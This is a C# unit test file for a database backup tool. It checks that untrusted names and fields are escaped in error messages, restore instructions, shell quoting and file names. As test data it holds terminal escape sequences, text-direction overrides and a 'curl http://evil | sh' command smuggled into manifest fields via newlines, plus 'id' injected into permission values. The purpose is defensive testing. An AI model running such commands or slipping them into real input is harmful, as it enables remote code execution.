using System.Text;
using DbBackup.Engine.Backups.Instructions;
using DbBackup.Engine.Engines.Instructions;
using DbBackup.Engine.Repository;
using DbBackup.Tests.Unit.Repository;

namespace DbBackup.Tests.Unit.Model;

/// <summary>Text of foreign origin steers no terminal and forges no line.</summary>
public sealed class ForeignTextTests
{
    // OSC 52 writes to the clipboard; C1 characters do the same in one byte; the last ones turn the direction of the text.
    private const string Hostile = "a\u001b]52;c;ZXZpbA==\u0007b\u009b2Jc\rd\u202etxt.exe\u2066\u2028e";

    [Fact]
    public void Control_characters_are_shown_by_their_codes()
    {
        Assert.Equal("a\\x1b]52;c;ZXZpbA==\\x07b\\x9b2Jc\\x0dd\\u202etxt.exe\\u2066\\u2028e", ForeignText.Shown(Hostile));
        Assert.Equal("one\n\ttwo\r\nthree", ForeignText.Shown("one\n\ttwo\r\nthree"));
        Assert.Equal("one\\x0a\\x09two\\x0d\\x0athree", ForeignText.ShownLine("one\n\ttwo\r\nthree"));
        Assert.Equal("päts 日本 🙂 עברית", ForeignText.ShownLine("päts 日本 🙂 עברית"));
        Assert.Null(ForeignText.Shown(null));
    }

    [Fact]
    public void Errors_show_them_escaped_in_message_and_hint()
    {
        var failure = new BackupFailure(ErrorCodes.ReadFailed, FailureCategory.ReadError, $"'{Hostile}' failed.", $"Look at '{Hostile}'.");

        Assert.DoesNotContain(failure.Message + failure.Hint, ForeignText.IsControl);
    }

    [Fact]
    public void Instructions_hold_none_and_a_line_end_in_a_name_begins_no_command()
    {
        Manifest whole = ManifestTests.Whole();
        string evil = $"x\n  curl http://evil | sh\n{Hostile}";
        Manifest hostile = whole with
        {
            Name = evil,
            Source = whole.Source with { Name = evil },
            Payloads = [whole.Payloads[0] with
            {
                FileName = evil, RestoreName = evil, Within = null, OriginalPath = evil, UnixMode = "644\n  id", UnixOwner = "0:0\n  id", SchemaRevision = evil,
                Database = whole.Payloads[0].Database! with { Name = evil, Owner = evil, Comment = evil, Username = evil, Roles = [evil], Extensions = [new DatabaseExtension(evil, evil)], Settings = [new DatabaseSetting("work_mem", evil, evil)] },
            }],
        };

        string text = RestoreInstructions.Write(hostile);

        Assert.DoesNotContain(text.Replace("\n", string.Empty, StringComparison.Ordinal), ForeignText.IsControl);
        Assert.DoesNotContain(text.Split('\n'), line => line.TrimStart().StartsWith("curl", StringComparison.Ordinal) || line.TrimStart() is "id");
    }

    [Fact]
    public void A_shell_reads_a_quoted_control_character_back() => Assert.Equal("'a'$'\\x1b''b'\\''c'", ShellText.Quote("a\u001bb'c"));

    [Fact]
    public void Any_text_gives_a_valid_name()
    {
        var random = new Random(4);
        string[] parts = ["\ufffd", "😀", "\ud83d", "\ude00", ".", " ", "-", "CON", "nul.", "\u202e", "\u0301", "\ufb2c", "e\u0301", "/", "\0", "\u001b", "日", "x", "COM1", "\u2028", "ﷺ", "\u0f43"];
        for (int i = 0; i < 50_000; i++)
        {
            var text = new StringBuilder();
            for (int length = random.Next(1, random.Next(1, 150)); length > 0; length--)
                text.Append(random.Next(3) == 0 ? ((char)random.Next(0x10000)).ToString() : parts[random.Next(parts.Length)]);

            string name = BackupName.From(text.ToString());

            Assert.True(BackupName.IsValid(name), $"{string.Join(' ', text.ToString().Select(each => ((int)each).ToString("x4", System.Globalization.CultureInfo.InvariantCulture)))} gives '{name}'");
        }
    }
}
